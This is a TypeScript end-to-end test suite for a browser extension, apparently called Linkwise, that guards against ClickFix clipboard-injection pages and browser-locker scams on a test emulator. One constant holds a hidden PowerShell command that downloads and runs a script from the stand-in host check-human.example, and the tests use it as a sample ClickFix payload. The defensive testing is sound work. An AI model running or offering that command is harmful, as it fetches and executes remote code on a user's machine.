import type { Browser, Page } from 'puppeteer-core';
import { expect, it, vi } from 'vitest';
import { HOSTILE_COMMAND } from '../emulator/hostile-guard-pages';
import { SCARE_PHONE } from '../emulator/locker-pages';
import { readClipboard } from './guard-scenarios';
import { screenshot } from './site-scenarios';
import { readThroughBridge, surfaceTexts } from './surface-texts';

/**
 * The page guards' warnings as a person meets them, on the e2e build (readable names, and the
 * bridge that reads Linkwise's closed shadow roots): what they say, the keyboard's way through
 * them, copying a command anyway in two deliberate steps, leaving, the tab muted, a locker's
 * number marked, Back that works, and each guard's switch in options.
 */

export interface GuardDetailTarget {
  browser: () => Browser;
  emulatorUrl: string;
  openOptions: () => Promise<Page>;
  /** Whether this run takes the README's pictures (Chromium's). */
  screenshots?: boolean;
}

const poll = { polling: 100, timeout: 20_000 } as const;
const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const COMMAND = 'powershell -w h -nop -c "iex(irm https://check-human.example/verify.ps1)"';
const SENTENCE = 'Linkwise stopped this page from copying a command.';

/** The guard's warning's words, once it is drawn. */
async function warningWords(page: Page): Promise<string> {
  await page.waitForSelector('linkwise-guard-warning', poll);
  return vi.waitFor(
    async () => {
      const text = (await surfaceTexts(page)).find(
        ({ tag }) => tag === 'linkwise-guard-warning',
      )?.text;
      if (!text?.trim()) throw new Error('the warning has no words yet');
      return text;
    },
    { timeout: 20_000, interval: 100 },
  );
}

/** Opens a page after one of the emulator's own, so that there is a page to go back to. */
async function openAfterAnother(browser: Browser, emulatorUrl: string, path: string) {
  const page = await browser.newPage();
  page.on('dialog', (dialog) => void dialog.accept().catch(() => undefined));
  await page.goto(`${emulatorUrl}/guards/copy.html`);
  await page.bringToFront();
  await page.evaluate(() => navigator.clipboard.writeText('(before)'));
  await page.goto(`${emulatorUrl}${path}`);
  await page.bringToFront();
  return page;
}

const press = async (page: Page, ...keys: Array<'Tab' | 'Enter'>) => {
  for (const key of keys) await page.keyboard.press(key);
};

export function itGuardsInDetail(target: GuardDetailTarget): void {
  it('says what a ClickFix page tried; copying the command anyway takes two deliberate steps', async () => {
    const page = await openAfterAnother(
      target.browser(),
      target.emulatorUrl,
      '/guards/clickfix/recaptcha-writeText.html',
    );
    await page.click('#verify');
    const words = await warningWords(page);
    for (const phrase of [
      'This page tried to put a command on your clipboard',
      'downloads and runs a program',
      'The page tells you to open Run or Terminal and paste it.',
      'No real check, CAPTCHA or error fix asks you to paste anything',
      COMMAND,
      'Leave this page',
    ])
      expect(words).toContain(phrase);
    await vi.waitFor(async () => expect(await readClipboard(page)).toContain(SENTENCE), poll);
    if (target.screenshots) await screenshot(page, 'guard-clipboard.png');
    // Keys only: Leave has the focus; More options, then Copy the command anyway, then the
    // question's Yes (the question gives Cancel the focus).
    await press(page, 'Tab', 'Enter', 'Tab', 'Enter');
    expect(await readClipboard(page)).toContain(SENTENCE);
    await page.keyboard.down('Shift');
    await page.keyboard.press('Tab');
    await page.keyboard.up('Shift');
    await press(page, 'Enter');
    await vi.waitFor(async () => expect(await readClipboard(page)).toBe(COMMAND), poll);
    await page.close();
  });

  it('says so when a popup of another site the page opened wrote the command and closed itself', async () => {
    const page = await openAfterAnother(
      target.browser(),
      target.emulatorUrl,
      '/guards/hostile/cross-origin-popup.html',
    );
    await page.click('#verify');
    const words = await warningWords(page);
    expect(words).toContain('A window this page opened tried to put a command on your clipboard');
    expect(words).toContain(HOSTILE_COMMAND);
    expect(await readClipboard(page)).not.toContain(HOSTILE_COMMAND);
    await page.close();
  });

  it('leaves a ClickFix page for the one before it', async () => {
    const page = await openAfterAnother(
      target.browser(),
      target.emulatorUrl,
      '/guards/clickfix/turnstile-mshta.html',
    );
    await page.click('#verify');
    await warningWords(page);
    await press(page, 'Enter');
    await page.waitForFunction(() => location.pathname === '/guards/copy.html', poll);
    await page.close();
  });

  it("breaks a locker: the tab muted, its number marked, the warning's words, Back leaves", async () => {
    const page = await openAfterAnother(
      target.browser(),
      target.emulatorUrl,
      '/guards/locker/scare-all.html',
    );
    const words = await warningWords(page);
    for (const phrase of [
      'This page tried to lock your browser',
      'Microsoft, Apple and your bank never ask you to call a number from a browser page.',
      'filled your history so that Back did nothing',
    ])
      expect(words).toContain(phrase);
    const tab = await readThroughBridge<{ muted: boolean }>(page, 'read-tab', 'linkwiseE2eReply');
    expect(tab.muted).toBe(true);
    // The number on the page is marked as a locker's, reported or not (the service has none).
    await vi.waitFor(
      async () => {
        const badges = await readThroughBridge<Array<{ label: string }>>(
          page,
          'read-badges',
          'linkwiseE2eBadges',
        );
        expect(badges.map(({ label }) => label)).toContain(
          'Linkwise: phone number shown by a page that locks your browser',
        );
      },
      { timeout: 20_000, interval: 250 },
    );
    expect(await page.evaluate(() => document.body.textContent)).toContain(SCARE_PHONE);
    // The page pushed 40 entries of its own; one Back leaves it.
    await page.goBack({ timeout: 5_000 }).catch(() => undefined);
    await page.waitForFunction(() => location.pathname === '/guards/copy.html', poll);
    await page.close();
  });

  it('lets a person switch each guard off in options', async () => {
    const options = await target.openOptions();
    const flip = async (name: 'guardClipboard' | 'breakPageLocks', on: boolean) => {
      await options.bringToFront();
      await options.waitForSelector(`input[name="${name}"]`, poll);
      if (
        (await options.$eval(
          `input[name="${name}"]`,
          (box) => (box as HTMLInputElement).checked,
        )) !== on
      )
        await options.click(`input[name="${name}"]`);
      await options.waitForFunction(
        (n, o) => (document.querySelector(`input[name="${n}"]`) as HTMLInputElement).checked === o,
        poll,
        name,
        on,
      );
    };
    await flip('guardClipboard', false);
    await flip('breakPageLocks', false);
    try {
      const clickFix = await openAfterAnother(
        target.browser(),
        target.emulatorUrl,
        '/guards/clickfix/recaptcha-writeText.html',
      );
      await clickFix.click('#verify');
      await vi.waitFor(async () => expect(await readClipboard(clickFix)).toBe(COMMAND), poll);
      expect(await clickFix.$('linkwise-guard-warning')).toBeNull();
      await clickFix.close();
      const locker = await openAfterAnother(
        target.browser(),
        target.emulatorUrl,
        '/guards/locker/history.html',
      );
      await wait(1_000);
      expect(await locker.$('linkwise-guard-warning')).toBeNull();
      expect(await locker.evaluate(() => location.hash)).toBe('#39');
      await locker.close();
    } finally {
      await flip('guardClipboard', true);
      await flip('breakPageLocks', true);
      await options.close();
    }
  });
}
